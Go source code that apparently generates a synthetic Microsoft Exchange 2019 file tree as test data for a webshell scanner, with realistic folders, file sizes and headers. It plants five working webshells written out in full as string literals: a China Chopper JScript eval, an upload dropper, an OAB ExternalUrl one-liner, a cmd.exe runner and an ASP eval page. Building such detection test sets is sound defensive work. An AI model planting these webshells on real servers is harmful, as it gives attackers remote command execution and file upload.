package main

import (
	"bufio"
	"bytes"
	"fmt"
	"math"
	"math/rand/v2"
	"os"
	"path"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"sync"
)

const (
	v15      = "Program Files/Microsoft/Exchange Server/V15"
	httpPrx  = v15 + "/FrontEnd/HttpProxy"
	owaAuth  = httpPrx + "/owa/auth"
	aspnetCl = "inetpub/wwwroot/aspnet_client"
	maxFile  = 48 << 20 // stays under exscan's default --max-file-size (64 MiB)
)

// Exchange 2019 builds whose versioned folders sit side by side after
// cumulative updates (CU7, CU8, CU9).
var builds = []string{"15.2.721.2", "15.2.792.3", "15.2.858.5"}

type content int

const (
	cJS content = iota
	cCSS
	cASPX
	cXML
	cHTM
	cJSON
	cDLL
	cPNG
	cGIF
	cICO
	cWOFF
	cShell // planted webshell: fixed text
)

// kindSpec is one kind of file: its share of the file count, its
// log-normal size (median and sigma of ln size) and where it lives.
type kindSpec struct {
	ext    string
	share  float64
	median float64
	sigma  float64
	body   content
	group  string
}

var kinds = []kindSpec{
	{".js", 0.33, 8 << 10, 1.4, cJS, "js"},
	{".css", 0.10, 4 << 10, 1.2, cCSS, "css"},
	{".png", 0.20, 2500, 1.2, cPNG, "img"},
	{".gif", 0.06, 1200, 0.9, cGIF, "img"},
	{".ico", 0.005, 5 << 10, 0.3, cICO, "img"},
	{".woff", 0.015, 45 << 10, 0.5, cWOFF, "fonts"},
	{".aspx", 0.04, 5 << 10, 0.9, cASPX, "pages"},
	{".ascx", 0.01, 3 << 10, 0.8, cASPX, "pages"},
	{".htm", 0.02, 3 << 10, 1.0, cHTM, "pages"},
	{".ashx", 0.005, 1 << 10, 0.5, cASPX, "handlers"},
	{".asmx", 0.003, 1 << 10, 0.5, cASPX, "handlers"},
	{".svc", 0.007, 700, 0.4, cASPX, "handlers"},
	{".dll", 0.09, 50 << 10, 1.6, cDLL, "bin"},
	{".xml", 0.07, 3 << 10, 1.3, cXML, "xml"},
	{".config", 0.01, 10 << 10, 0.8, cXML, "xml"},
	{".json", 0.02, 5 << 10, 1.2, cJSON, "js"},
}

// treeDirs returns the folders of each group.
func treeDirs() map[string][]string {
	g := map[string][]string{}
	add := func(group string, dirs ...string) { g[group] = append(g[group], dirs...) }
	themes := []string{"base", "blue", "dark", "orange", "purple", "green", "red", "gray"}
	for _, b := range builds {
		prem := v15 + "/ClientAccess/Owa/prem/" + b
		ecp := v15 + "/ClientAccess/ecp/" + b
		authv := owaAuth + "/" + b[:strings.LastIndexByte(b, '.')]
		add("js", prem+"/scripts", prem+"/scripts/boot", prem+"/scripts/worker", prem+"/scripts/ux", prem+"/scripts/plugins",
			ecp+"/scripts", authv+"/scripts/premium")
		for _, l := range locales[:8] {
			add("js", prem+"/scripts/"+l, ecp+"/scripts/"+l)
		}
		add("css", prem+"/resources/styles", ecp+"/themes/default", authv+"/themes/resources")
		add("img", prem+"/resources/images/0", prem+"/resources/images/1", ecp+"/themes/default/images", authv+"/themes/resources")
		for _, t := range themes {
			add("css", prem+"/resources/themes/"+t)
			add("img", prem+"/resources/themes/"+t)
		}
		add("fonts", prem+"/resources/styles/fonts/office400", prem+"/resources/styles/fonts/office500")
		add("xml", prem+"/resources")
	}
	add("js", owaAuth+"/Current/scripts/premium")
	add("css", owaAuth+"/Current/themes/resources")
	add("img", owaAuth+"/Current/themes/resources")
	for _, d := range []string{"", "/Reporting", "/PersonalSettings", "/Organize", "/UsersGroups", "/RulesEditor", "/OrgSettings",
		"/Security", "/MessageTracking", "/SMS", "/Customize", "/Help", "/Extension", "/Calendar"} {
		add("pages", v15+"/ClientAccess/ecp"+d)
	}
	add("pages", v15+"/ClientAccess/Owa", v15+"/ClientAccess/Owa/forms/premium", v15+"/ClientAccess/Owa/Calendar")
	add("handlers", v15+"/ClientAccess/ecp/DDI", v15+"/ClientAccess/exchweb/ews", v15+"/ClientAccess/Autodiscover",
		v15+"/ClientAccess/PushNotifications", v15+"/ClientAccess/mapi/emsmdb", v15+"/ClientAccess/mapi/nspi", v15+"/ClientAccess/OAB",
		v15+"/ClientAccess/Sync", v15+"/ClientAccess/PowerShell-Proxy")
	add("bin", v15+"/Bin", v15+"/Bin/CmdletExtensionAgents", v15+"/FrontEnd/HttpProxy/bin", v15+"/ClientAccess/Owa/bin",
		v15+"/ClientAccess/ecp/bin", v15+"/ClientAccess/exchweb/ews/bin", v15+"/ClientAccess/Sync/bin",
		v15+"/ClientAccess/Autodiscover/bin", v15+"/ClientAccess/PowerShell-Proxy/bin", v15+"/TransportRoles/agents/Hygiene")
	for _, l := range locales[:6] {
		add("bin", v15+"/Bin/"+l)
	}
	add("xml", v15+"/Bin", v15+"/Bin/Monitoring/Config", v15+"/ClientAccess/ecp/DDI", v15+"/ClientAccess/SharedWebConfig",
		v15+"/Bin/CmdletExtensionAgents", v15+"/ClientAccess/Owa/Config")
	return g
}

type treeFile struct {
	rel  string
	size int64
	body content
	text string // cShell text, or a fixed header
}

// The planted webshells: a China Chopper JScript one-liner, an
// upload-and-save dropper, an OAB-settings export carrying a one-liner in
// ExternalUrl, a cmd.exe page and a classic ASP eval page, where the 2021
// intrusions put them (owa\auth and aspnet_client). Written for this data set.
var webshells = []struct{ rel, kind, text string }{
	{owaAuth + "/OutlookZH.aspx", "china-chopper-jscript",
		`<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>` + "\r\n"},
	{aspnetCl + "/system_web/4_0_30319/xclbhkq.aspx", "upload-and-save",
		"<%@ Page Language=\"C#\" %>\r\n<% if (Request.Files.Count != 0) { Request.Files[0].SaveAs(Server.MapPath(\"./\") + Request.Form[\"f\"]); } %>\r\n"},
	{aspnetCl + "/discover.aspx", "oab-externalurl-chopper",
		"Name                            : OAB (Default Web Site)\r\nPollInterval                    : 480\r\nOfflineAddressBooks             :\r\n" +
			"RequireSSL                      : True\r\nBasicAuthentication             : True\r\nWindowsAuthentication           : True\r\n" +
			"InternalUrl                     : https://exch01.contoso.local/OAB\r\n" +
			"ExternalUrl                     : http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>\r\n" +
			"AdminDisplayVersion             : Version 15.2 (Build 792.3)\r\nServer                          : EXCH01\r\n"},
	{owaAuth + "/Current/themes/resources/errorEEE.aspx", "cmd-from-request",
		"<%@ Page Language=\"C#\" %>\r\n<%@ Import Namespace=\"System.Diagnostics\" %>\r\n<script runat=\"server\">\r\nvoid Page_Load(object s, EventArgs e) {\r\n" +
			"  ProcessStartInfo psi = new ProcessStartInfo(\"cmd.exe\", \"/c \" + Request.Form[\"c\"]);\r\n" +
			"  psi.RedirectStandardOutput = true; psi.UseShellExecute = false;\r\n  Process p = Process.Start(psi);\r\n" +
			"  Response.Write(\"<pre>\" + Server.HtmlEncode(p.StandardOutput.ReadToEnd()) + \"</pre>\");\r\n}\r\n</script>\r\n"},
	{aspnetCl + "/system_web/log.asp", "classic-asp-eval",
		"<%@ LANGUAGE = VBScript.Encode %>\r\n<%eval request(\"pass\")%>\r\n"},
}

// Microsoft's own pages in the auth folders, and each front-end web.config.
var baselinePages = []string{owaAuth + "/errorFE.aspx", owaAuth + "/expiredpassword.aspx", owaAuth + "/frowny.aspx",
	owaAuth + "/logoff.aspx", owaAuth + "/logon.aspx", owaAuth + "/OutlookCN.aspx", owaAuth + "/RedirSuiteServiceProxy.aspx",
	owaAuth + "/signout.aspx", owaAuth + "/SvmFeedback.aspx", httpPrx + "/ecp/auth/TimeoutLogout.aspx"}

var frontEndVdirs = []string{"owa", "ecp", "ews", "autodiscover", "mapi", "oab", "rpc", "sync", "pushnotifications", "powershell", "rest"}

func lognormal(r *rand.Rand, median, sigma float64) float64 {
	return median * math.Exp(sigma*r.NormFloat64())
}

// planTree decides every file's path, size and kind from the seed.
func planTree(p params) []treeFile {
	r := stream(p.Seed, "tree-plan", 0)
	dirs := treeDirs()
	var files []treeFile
	used := map[string]bool{}
	addFixed := func(rel string, k kindSpec) {
		used[strings.ToLower(rel)] = true
		files = append(files, treeFile{rel: rel, size: int64(lognormal(r, k.median, k.sigma)), body: k.body})
	}
	aspx, cfg, htm, png := kinds[6], kinds[14], kinds[8], kinds[2]
	for _, rel := range baselinePages {
		addFixed(rel, aspx)
	}
	for _, v := range frontEndVdirs {
		addFixed(httpPrx+"/"+v+"/web.config", cfg)
	}
	addFixed(httpPrx+"/owa/healthcheck.htm", htm)
	addFixed("inetpub/wwwroot/iisstart.htm", htm)
	addFixed("inetpub/wwwroot/iisstart.png", png)
	addFixed("inetpub/wwwroot/web.config", cfg)

	var total float64
	for _, k := range kinds {
		total += k.share
	}
	n := p.Files - len(webshells)
	for len(files) < n {
		x := r.Float64() * total
		k := kinds[len(kinds)-1]
		for _, c := range kinds {
			if x < c.share {
				k = c
				break
			}
			x -= c.share
		}
		dir := pick(r, dirs[k.group])
		var rel string
		for try := 0; ; try++ {
			rel = dir + "/" + fileName(r, k)
			if try > 0 {
				rel = strings.TrimSuffix(rel, k.ext) + "_" + strconv.Itoa(try) + k.ext
			}
			if !used[strings.ToLower(rel)] {
				break
			}
		}
		used[strings.ToLower(rel)] = true
		files = append(files, treeFile{rel: rel, size: int64(lognormal(r, k.median, k.sigma)), body: k.body})
	}

	// Scale the sizes so the tree adds up to about TreeBytes.
	var shells int64
	for _, w := range webshells {
		shells += int64(len(w.text))
	}
	target := float64(p.TreeBytes - shells)
	for pass := 0; pass < 3; pass++ {
		var sum, free float64
		for _, f := range files {
			sum += float64(f.size)
			if f.size < maxFile {
				free += float64(f.size)
			}
		}
		if free == 0 {
			break
		}
		scale := (target - (sum - free)) / free
		for i := range files {
			if files[i].size < maxFile {
				files[i].size = min(max(int64(float64(files[i].size)*scale), 64), maxFile)
			}
		}
	}
	for _, w := range webshells {
		files = append(files, treeFile{rel: w.rel, size: int64(len(w.text)), body: cShell, text: w.text})
	}
	return files
}

func fileName(r *rand.Rand, k kindSpec) string {
	switch k.body {
	case cJS:
		parts := []string{pick(r, []string{"microsoft.owa", "owa", "boot", "ux", "microsoft.exchange.clients", "ecp", "plugins", "fabric"})}
		for i, n := 0, 1+r.IntN(3); i < n; i++ {
			parts = append(parts, pick(r, words))
		}
		if r.IntN(5) == 0 {
			parts = append(parts, pick(r, locales))
		}
		return strings.Join(parts, ".") + k.ext
	case cJSON:
		return pick(r, words) + "." + pick(r, []string{"manifest", "strings", "config", "schema"}) + k.ext
	case cCSS:
		return pick(r, []string{"owa", "fabric", "ecp", "styles", "ms"}) + "." + pick(r, words) + "." + pick(r, []string{"ltr", "rtl", "hc", "min"}) + k.ext
	case cPNG, cGIF, cICO:
		return pick(r, []string{"icon", "sprite", "img", "thumb", "btn", "bg", "logo", "flag"}) + "_" + pick(r, words) + "_" + strconv.Itoa(r.IntN(64)) + k.ext
	case cWOFF:
		return pick(r, []string{"segoeui", "segoeuisl", "segoeuib", "segoeuisb", "owafont", "mdl2"}) + "_" + strconv.Itoa(r.IntN(40)) + k.ext
	case cDLL:
		name := "Microsoft.Exchange." + pick(r, types) + "." + strings.ToUpper(pick(r, words)[:1]) + pick(r, words)[1:]
		if r.IntN(4) == 0 {
			name += ".resources"
		}
		return name + k.ext
	case cXML:
		if k.ext == ".config" {
			return pick(r, []string{"web", "app", "Microsoft.Exchange." + pick(r, types) + ".exe", "EdgeTransport.exe"}) + k.ext
		}
		return pick(r, types) + pick(r, []string{"", "Definition", "Schema", "Config", "Probes"}) + k.ext
	default:
		return pick(r, types) + k.ext
	}
}

// corpora holds the shared text each text file takes its body from (at a
// random offset): building it once keeps generation I/O bound.
type corpora map[content][]byte

func buildCorpora(seed int64) corpora {
	const size = 6 << 20
	c := corpora{}
	var mu sync.Mutex
	var wg sync.WaitGroup
	for kind, chunk := range map[content]func(*rand.Rand, *bytes.Buffer){
		cJS: jsChunk, cCSS: cssChunk, cASPX: aspxChunk, cXML: xmlChunk, cHTM: htmChunk,
	} {
		wg.Add(1)
		go func() {
			defer wg.Done()
			b := corpus(stream(seed, "corpus", int(kind)), size, chunk)
			mu.Lock()
			c[kind] = b
			mu.Unlock()
		}()
	}
	wg.Wait()
	// JSON files carry string tables like the JS ones.
	c[cJSON] = c[cJS]
	return c
}

var magic = map[content]string{
	cDLL:  "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8\x00\x00\x00\x00\x00\x00\x00@\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x80\x00\x00\x00\x0e\x1f\xba\x0e\x00\xb4\t\xcd!\xb8\x01L\xcd!This program cannot be run in DOS mode.\r\r\n$\x00\x00\x00\x00\x00\x00\x00PE\x00\x00L\x01\x03\x00",
	cPNG:  "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
	cGIF:  "GIF89a",
	cICO:  "\x00\x00\x01\x00\x01\x00\x10\x10\x00\x00\x01\x00 \x00",
	cWOFF: "wOFF\x00\x01\x00\x00",
}

func genTree(m *manifest, p params, workers int) error {
	files := planTree(p)
	corp := buildCorpora(p.Seed)
	m.TreeByExt = map[string]int{}
	dirs := map[string]bool{}
	for _, f := range files {
		dirs[path.Dir(f.rel)] = true
		m.TreeFiles++
		m.TreeBytes += f.size
		m.TreeByExt[strings.ToLower(path.Ext(f.rel))]++
	}
	// Empty folders a real install has too.
	dirs[aspnetCl+"/system_web/4_0_30319"] = true
	dirs[v15+"/ClientAccess/Owa/auth"] = true
	for d := range dirs {
		if err := os.MkdirAll(filepath.Join(m.Tree, filepath.FromSlash(d)), 0o755); err != nil {
			return err
		}
	}
	for _, w := range webshells {
		m.Webshells = append(m.Webshells, planted{Path: w.rel, Kind: w.kind})
	}
	sort.Slice(m.Webshells, func(i, j int) bool { return m.Webshells[i].Path < m.Webshells[j].Path })

	jobs := make(chan int, 256)
	errs := make(chan error, workers)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			bw := bufio.NewWriterSize(nil, 256<<10)
			rnd := make([]byte, 64<<10)
			var failed error
			for i := range jobs {
				if failed == nil {
					failed = writeTreeFile(m.Tree, p.Seed, i, files[i], corp, bw, rnd)
				}
			}
			errs <- failed
		}()
	}
	for i := range files {
		jobs <- i
	}
	close(jobs)
	wg.Wait()
	close(errs)
	for err := range errs {
		if err != nil {
			return err
		}
	}
	return nil
}

func writeTreeFile(root string, seed int64, i int, f treeFile, corp corpora, bw *bufio.Writer, rnd []byte) error {
	fh, err := os.Create(filepath.Join(root, filepath.FromSlash(f.rel)))
	if err != nil {
		return err
	}
	bw.Reset(fh)
	r := stream(seed, "tree-file", i)
	left := f.size
	put := func(s string) {
		if int64(len(s)) > left {
			s = s[:left]
		}
		bw.WriteString(s)
		left -= int64(len(s))
	}
	switch f.body {
	case cShell:
		put(f.text)
	case cDLL, cPNG, cGIF, cICO, cWOFF:
		put(magic[f.body])
		src := chacha(seed, "tree-bytes", i)
		for left > 0 {
			n := int(min(left, int64(len(rnd))))
			src.Read(rnd[:n])
			bw.Write(rnd[:n])
			left -= int64(n)
		}
	default:
		name := strings.TrimSuffix(path.Base(f.rel), path.Ext(f.rel))
		switch f.body {
		case cJS:
			put(jsHeader)
		case cJSON:
			put("{\"name\":\"" + name + "\",\"version\":\"15.2.858.5\",\"strings\":")
		case cASPX:
			if strings.HasSuffix(f.rel, ".svc") {
				put("<%@ ServiceHost Language=\"C#\" Debug=\"false\" Service=\"Microsoft.Exchange.Services." + name + "\" Factory=\"Microsoft.Exchange.Services.ServiceHostFactory\" %>\r\n")
			} else if strings.HasSuffix(f.rel, ".ashx") || strings.HasSuffix(f.rel, ".asmx") {
				put("<%@ WebHandler Language=\"C#\" Class=\"Microsoft.Exchange.Management.ControlPanel." + name + "\" %>\r\n")
			} else {
				put(aspxHeader(r, name))
			}
		case cXML:
			put(xmlHeader)
		case cHTM:
			put(htmHeader)
		}
		text := corp[f.body]
		off := int64(r.IntN(len(text)))
		for left > 0 {
			n := min(left, int64(len(text))-off)
			bw.Write(text[off : off+n])
			left -= n
			off = 0
		}
	}
	if err := bw.Flush(); err != nil {
		fh.Close()
		return fmt.Errorf("writing %s: %w", f.rel, err)
	}
	return fh.Close()
}
